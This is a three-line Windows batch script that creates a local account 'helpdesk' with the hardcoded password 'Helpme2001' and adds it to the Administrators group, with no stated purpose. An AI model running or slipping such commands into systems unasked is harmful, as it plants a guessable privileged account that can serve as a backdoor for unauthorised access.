@echo off
net user helpdesk Helpme2001 /add
net localgroup administrators helpdesk /add
